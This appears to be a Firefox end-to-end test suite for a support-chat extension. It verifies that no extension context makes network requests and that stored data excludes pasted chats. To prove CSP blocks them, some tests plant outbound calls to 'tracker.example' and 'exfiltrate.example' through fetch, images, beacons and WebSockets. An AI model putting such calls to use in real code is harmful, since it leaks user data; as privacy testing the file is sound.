// Nothing leaves Firefox either: during a whole heated chat (reading, analysis, panel, Insert) and
// an options session (rule switch, rule pack import, playground), no extension context makes a
// request. Each request of a desk page is judged by the tab that made it (RequestLog). WebDriver
// BiDi reports no request of the extension's own pages or of its background page (the first test
// shows it): for those, the test shows that their CSP refuses every kind of request.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Page } from 'puppeteer-core';
import { deskFixtures } from '../fixtures/desks/index';
import { heatedChat } from '../browser/heatedChat';
import { composerText, panelFlags, say, setDraft, setTyping, switchConversation, turnCount } from './chat';
import { EXTENSION_ORIGIN, launchFirefoxWithExtension, newDeskTab, openExtensionPage, openPanelTab, OPTIONS_PAGE, tabIdOf, waitFor, type FirefoxWithExtension } from './firefox';
import { RequestLog } from './requestLog';
import { NO_GUARANTEE_PACK } from '../fixtures/rulePacks';

const desk = deskFixtures.find((d) => d.id === 'zendesk')!;

let firefox: FirefoxWithExtension;
let requests: RequestLog;
let workDir: string;

beforeAll(async () => {
  firefox = await launchFirefoxWithExtension();
  requests = new RequestLog(new Set([new URL(desk.url).origin]));
  workDir = mkdtempSync(join(tmpdir(), 'composure-ff-'));
});

afterAll(async () => {
  await firefox?.close();
  rmSync(workDir, { recursive: true, force: true });
});

async function extensionPage(path: string): Promise<Page> {
  return openExtensionPage(firefox.browser, path, (page) => requests.watch(page, 'extension page'));
}

async function openDesk(): Promise<{ page: Page; tabId: number; options: Page }> {
  const page = await newDeskTab(firefox.browser, [desk]);
  requests.watch(page, 'desk page');
  await page.goto(desk.url);
  const options = await extensionPage(OPTIONS_PAGE);
  return { page, options, tabId: await tabIdOf(options, page) };
}

type ExtensionGlobal = { browser: { scripting: { executeScript(details: object): Promise<unknown> }; runtime: { getBackgroundPage(): Promise<Window> } } };

it('sees a request planted in the content script, the one context whose requests CSP allows', async () => {
  const { page, options, tabId } = await openDesk();
  const mark = requests.mark();
  const planted = 'https://tracker.example/pixel?chat=1042';
  // The content script's world, entered the way the extension itself can.
  await options.evaluate(
    (tab, url) =>
      (globalThis as unknown as ExtensionGlobal).browser.scripting.executeScript({
        target: { tabId: tab },
        func: (address: string) => void fetch(address).catch(() => undefined),
        args: [url],
      }),
    tabId,
    planted,
  );
  await waitFor(async () => requests.oursSince(mark).some((r) => r.maker === 'desk page' && r.url === planted), 'the planted request in the log');
  await options.close();
  await page.close();
});

it('hears no request of the extension’s own pages or background page: WebDriver BiDi does not report them', async () => {
  // Firefox's BiDi leaves moz-extension:// contexts out of its network events: not even the
  // options page's own script shows. So the log below can judge the desk pages (the content
  // script) but not the extension's pages or its background page; the next test proves instead
  // that those cannot send anything. When this fails, Firefox started reporting them: judge them
  // like the desk pages then (RequestLog.watch(page, 'extension page')).
  const mark = requests.mark();
  const options = await extensionPage(OPTIONS_PAGE);
  await options.evaluate(() => fetch('/src/options/index.html').then((r) => r.text()));
  expect(requests.allSince(mark, 'extension page')).toEqual([]);
  await options.close();
});

it('refuses every request of the background page and the extension pages by CSP', async () => {
  const options = await extensionPage(OPTIONS_PAGE);
  const panel = await extensionPage('src/sidepanel/index.html');
  const blockedIn = (page: Page, base: string) =>
    page.evaluate(async (base) => {
      const extension = globalThis as unknown as ExtensionGlobal;
      // The background page (Firefox's event page) through the one handle an extension page has on it.
      const contexts: [string, Window & typeof globalThis][] = [[base, window], [`${base}-background`, (await extension.browser.runtime.getBackgroundPage()) as Window & typeof globalThis]];
      const outcomes: Record<string, string[]> = {};
      for (const [name, win] of contexts) {
        // CSP's own report, not a network failure: nothing else fires securitypolicyviolation.
        const refused = new Set<string>();
        const listener = (event: SecurityPolicyViolationEvent) => refused.add(event.blockedURI);
        win.document.addEventListener('securitypolicyviolation', listener);
        const url = (what: string) => `https://exfiltrate.example/${name}/${what}`;
        await win.fetch(url('fetch')).catch(() => undefined);
        const image = new win.Image();
        image.src = url('image');
        win.navigator.sendBeacon(url('beacon'), 'chat');
        try {
          new win.WebSocket(url('socket').replace('https:', 'wss:'));
        } catch {
          // Firefox also throws at once on a refused socket; the violation event still names it.
        }
        const deadline = Date.now() + 5_000;
        while (refused.size < 4 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
        win.document.removeEventListener('securitypolicyviolation', listener);
        outcomes[name] = [...refused].map((u) => u.replace(/^.*\//, '')).sort();
      }
      return outcomes;
    }, base);
  const all = ['beacon', 'fetch', 'image', 'socket'];
  expect(await blockedIn(options, 'options')).toEqual({ options: all, 'options-background': all });
  expect(await blockedIn(panel, 'panel')).toEqual({ panel: all, 'panel-background': all });
  await options.close();
  await panel.close();
});

it('makes no request during a whole heated chat, Replace included', async () => {
  const { page, options, tabId } = await openDesk();
  await options.close();
  const mark = requests.mark();
  const panel = await extensionPage(`src/sidepanel/index.html?tab=${tabId}`);
  await switchConversation(page, heatedChat.conversation.id, heatedChat.conversation.customerName);
  await waitFor(async () => (await turnCount(panel)) === 0, 'the heated chat in the panel');
  for (const step of heatedChat.steps) {
    const [composed, turnsBefore] = [await composerText(page), await turnCount(panel)];
    if ('customer' in step) await say(page, 'customer', step.customer);
    else if ('agent' in step) await say(page, 'agent', step.agent);
    else if ('system' in step) await say(page, 'system', step.system);
    else if ('typing' in step) await setTyping(page, step.typing);
    else if ('draft' in step) await setDraft(page, step.draft);
    else if ('insert' in step) await panel.evaluate(() => document.querySelector<HTMLElement>('[data-action="insert"]')!.click());
    else if ('replace' in step) {
      await waitFor(() => panel.evaluate(() => document.querySelector('[data-suggestion-kind="reframe"] [data-action="replace"]') !== null), 'the reframe card');
      await panel.evaluate(() => document.querySelector<HTMLElement>('[data-suggestion-kind="reframe"] [data-action="replace"]')!.click());
    }
    else await switchConversation(page, step.switch.id, step.switch.customerName);
    // Each step read before the next: a message in the panel, a draft checked, a card inserted.
    if ('customer' in step || 'agent' in step || 'system' in step) await waitFor(async () => (await turnCount(panel)) > turnsBefore, 'the new line in the panel');
    else if ('draft' in step) await waitFor(async () => (await panelFlags(panel)).some((f) => f.draft), 'a draft flag');
    else if ('insert' in step || 'replace' in step) await waitFor(async () => (await composerText(page)) !== composed, 'the card in the reply box');
    else if ('switch' in step) await waitFor(async () => (await turnCount(panel)) === (await page.evaluate(() => window.__chat.script().length)), 'the next chat in the panel');
  }
  expect(requests.oursSince(mark)).toEqual([]);
  await panel.close();
  await page.close();
});


it('makes no request during an options session (rule switch, pack import, playground), and keeps the pasted chat out of storage', async () => {
  const mark = requests.mark();
  const options = await extensionPage(OPTIONS_PAGE);
  const stored = () => options.evaluate(async () => JSON.stringify(await (globalThis as unknown as { browser: { storage: { local: { get(k: null): Promise<object> } } } }).browser.storage.local.get(null)));
  const toggle = '[data-rule-id="anger.shouting"] input[data-action="toggle-rule"]';
  await options.waitForSelector(toggle);
  await options.click(toggle);
  await waitFor(async () => (await stored()).includes('"disabledRules":["anger.shouting"]'), 'the rule switched off in storage');
  await options.click(toggle);
  await waitFor(async () => !(await stored()).includes('anger.shouting'), 'the rule back on');

  const packFile = join(workDir, 'team.yaml');
  writeFileSync(packFile, NO_GUARANTEE_PACK);
  const input = (await options.$('input[type=file][data-action="import-pack"]'))!;
  await input.uploadFile(packFile);
  await options.waitForSelector('[data-rule-id="team.no-guarantee"]', { timeout: 10_000 });

  const chat = 'Customer: This is the third time I have asked!!\nAgent: I guarantee it arrives by Friday.';
  await options.$eval(
    'textarea[data-action="playground-input"]',
    (area, text) => {
      (area as HTMLTextAreaElement).value = text;
      area.dispatchEvent(new Event('input', { bubbles: true }));
    },
    chat,
  );
  await options.click('[data-action="playground-run"]');
  await options.waitForSelector('[data-playground-turn="1"] [data-rule="team.no-guarantee"]', { timeout: 10_000 });
  await options.close();

  const reopened = await extensionPage(OPTIONS_PAGE);
  const storedNow = await reopened.evaluate(async () => JSON.stringify(await (globalThis as unknown as { browser: { storage: { local: { get(k: null): Promise<object> } } } }).browser.storage.local.get(null)));
  expect(storedNow).toContain('team.no-guarantee');
  expect(storedNow).not.toContain('third time I have asked');
  expect(storedNow).not.toContain('arrives by Friday');
  await reopened.close();
  expect(requests.oursSince(mark)).toEqual([]);
});
